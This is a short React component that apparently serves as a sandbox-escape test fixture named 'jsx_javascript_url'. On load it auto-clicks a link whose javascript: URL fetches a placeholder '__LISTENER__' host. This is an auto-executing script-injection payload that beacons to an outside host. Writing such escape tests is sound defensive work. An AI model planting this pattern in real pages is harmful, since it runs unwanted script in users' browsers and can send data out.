import { useEffect } from "react";

// Escape attempt: jsx_javascript_url
export default function Hostile() {
  useEffect(() => {
    const link = document.getElementById("go");
    if (link) link.click();
  }, []);
  return (
    <div>
      <p data-testid="hostile">jsx_javascript_url</p>
      <a id="go" href="javascript:fetch('__LISTENER__/jsx_javascript_url')">go</a>
    </div>
  );
}
